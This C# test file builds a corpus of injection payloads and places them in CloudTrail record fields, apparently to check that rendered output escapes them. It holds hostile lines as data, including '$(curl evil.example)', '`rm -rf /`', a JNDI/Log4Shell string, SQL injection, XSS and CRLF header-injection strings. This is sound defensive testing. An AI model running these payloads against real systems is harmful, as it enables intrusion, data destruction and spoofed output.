using System.Text.Json.Nodes;

namespace Reliability.Tests.Injection;

/// <summary>
/// The hostile-payload corpus (issue part 5): markup, links, mentions, control sequences, header and log
/// injection, JSON breakers, oversized and odd Unicode, and the CloudTrail fields an attacker controls that reach
/// output. Each placement writes the payload where a real call would carry it, consistently (the session name in
/// both the ARN and the principalId; the object key in the request, the resources and the error message).
/// </summary>
public static class HostilePayloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Terminal control: ANSI/OSC escapes, CR overwrite, backspace, bell, NUL, C1, bidi and line separators.
        "\u001b[31mRED\u001b[0m", "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007", "\u001b[2J\u001b[H", "ok\rFORGED",
        "a\bb", "bell\u0007", "nul\0byte", "c1\u009bcsi", "\u202Eevil\u202C", "\u2066iso\u2069", "line\u2028sep", "para\u2029sep",
        // Markdown and HTML.
        "[click](http://evil.example)", "![img](http://evil.example/x.png)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "**bold** _it_ ~~s~~", "# heading", "> quote", "```\nfenced\n```", "`code`", "| a | b |\n|---|---|", "<!-- comment -->",
        "[x]: http://evil.example", "<http://evil.example>", "javascript:alert(1)", "&lt;escaped&gt;", "&amp;",
        // Slack / Q Developer mentions and links.
        "<!channel>", "<!here>", "<!everyone>", "<@U0123ABCD>", "<#C0123ABCD>", "<http://evil.example|Click here>", "@here", "@channel",
        "<!subteam^S0123|@oncall>", "<mailto:a@evil.example|mail>",
        // Header, log and line injection.
        "x\r\nBcc: victim@example.com", "x\nSubject: forged", "x\r\n\r\n<html>body</html>", "\n{\"level\":\"error\",\"message\":\"forged\"}",
        "%0d%0aSet-Cookie:x=1",
        // JSON and string breakers, format strings, template and shell.
        "\"}],\"injected\":true,{\"", "\\\"", "\\u0000", "'; DROP TABLE findings; --", "$(curl evil.example)", "`rm -rf /`", "${jndi:ldap://evil.example/a}",
        "{{7*7}}", "%s%n%x", "\uFFFE\uFFFF", "\uD83D\uDE00\u200D\uD83D\uDCA5", "Ａｄｍｉｎ", "zero\u200Bwidth", new string('A', 10_000),
        string.Concat(Enumerable.Repeat("<!channel>", 500)),
        // Bidi marks, BOM and other invisible format characters, and 8-bit (C1) CSI/OSC sequences.
        "lrm\u200Emark", "rlm\u200Fmark", "alm\u061Cmark", "bom\uFEFFmark", "soft\u00ADhyphen", "word\u2060joiner",
        "\u009d8;;http://x\u009clink\u009d8;;\u009c", "\u009b31mred\u009b0m", "\u0085nel",
        // Format characters outside the BMP, each a surrogate pair in UTF-16 (neither half is of category Format):
        // tag characters (invisible ASCII, "ASCII smuggling"), the language tag, musical and shorthand format controls.
        "tag\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007Fhidden", "\U000E0001lang", "music\U0001D173\U0001D17Abeam",
        "short\U0001BCA0\U0001BCA3hand",
        // Unpaired surrogates (written into the record as JSON \uD800-style escapes, see RenderedOutputs.RecordJson).
        "lone\uD800high", "lone\uDFFFlow", "swapped\uDC00\uD800pair",
    ];

    /// <summary>
    /// The payloads a record can carry as far as a diagnosis: all but those with an unpaired surrogate, which the
    /// parser refuses (InjectionTests.ARecordCarryingAnUnpairedSurrogateIsRefusedAtParseOrRenderedWithoutIt).
    /// </summary>
    public static IReadOnlyList<string> Renderable { get; } = All.Where(p => !HasUnpairedSurrogate(p)).ToList();

    /// <summary>The payloads holding an unpaired surrogate: CloudTrail's JSON may carry one as an escape.</summary>
    public static bool HasUnpairedSurrogate(string payload)
    {
        for (var i = 0; i < payload.Length; i++)
        {
            if (char.IsHighSurrogate(payload[i]) && i + 1 < payload.Length && char.IsLowSurrogate(payload[i + 1]))
            {
                i++;
            }
            else if (char.IsSurrogate(payload[i]))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>
    /// A benign word every placed payload starts with (<see cref="Carried"/>): letters and digits only, so every
    /// output shows it as it is, and a test finds the payload (or its escaped form) where it reached.
    /// </summary>
    public const string Marker = "qzmark7x";

    /// <summary>The text placed in a field: the marker, then the payload.</summary>
    public static string Carried(string payload) => Marker + payload;

    /// <summary>The attacker-controlled fields, each as a function that places a payload in a copy of the record.</summary>
    public static IReadOnlyList<(string Field, Action<JsonObject, string> Place)> Placements { get; } =
    [
        ("userAgent", (r, p) => r["userAgent"] = "aws-sdk-js/3 exec-env/AWS_Lambda_nodejs20.x " + p),
        ("requestParameters", (r, p) =>
        {
            var key = "invoices/" + p;
            r["requestParameters"]!["key"] = key;
            r["resources"]![0]!["ARN"] = "arn:aws:s3:::acme-orders-prod/" + key;
            r["errorMessage"] = ErrorMessage("orders-api", "arn:aws:s3:::acme-orders-prod/" + key);
        }),
        ("errorMessage", (r, p) => r["errorMessage"] = ErrorMessage("orders-api", "arn:aws:s3:::acme-orders-prod/invoices/2026/11/inv-1000.pdf") + " " + p),
        ("resourceName", (r, p) =>
        {
            var bucket = "acme-" + p;
            r["requestParameters"]!["bucketName"] = bucket;
            r["resources"]![0]!["ARN"] = $"arn:aws:s3:::{bucket}/k";
            r["resources"]![1]!["ARN"] = $"arn:aws:s3:::{bucket}";
            r["errorMessage"] = ErrorMessage("orders-api", $"arn:aws:s3:::{bucket}/k");
        }),
        ("sessionName", (r, p) =>
        {
            r["userIdentity"]!["arn"] = "arn:aws:sts::111122223333:assumed-role/orders-api-role/" + p;
            r["userIdentity"]!["principalId"] = "AROA9362DA5C13DA58A:" + p;
            r["errorMessage"] = ErrorMessage(p, "arn:aws:s3:::acme-orders-prod/invoices/2026/11/inv-1000.pdf");
        }),
        ("roleName", (r, p) =>
        {
            // A consistent record: the session ARN names the issuer's role, its last path segment (STS leaves the path
            // out), so the payload is the role's path and name, never an issuer the session contradicts.
            var issuer = "arn:aws:iam::111122223333:role/service/" + p;
            r["userIdentity"]!["arn"] = "arn:aws:sts::111122223333:assumed-role/" + issuer[(issuer.LastIndexOf('/') + 1)..] + "/orders-api";
            r["userIdentity"]!["sessionContext"]!["sessionIssuer"]!["arn"] = issuer;
            r["userIdentity"]!["sessionContext"]!["sessionIssuer"]!["userName"] = p;
        }),
    ];

    private static string ErrorMessage(string session, string resource) =>
        $"User: arn:aws:sts::111122223333:assumed-role/orders-api-role/{session} is not authorized to perform: s3:GetObject on \"{resource}\" because no identity-based policy allows the s3:GetObject action";
}
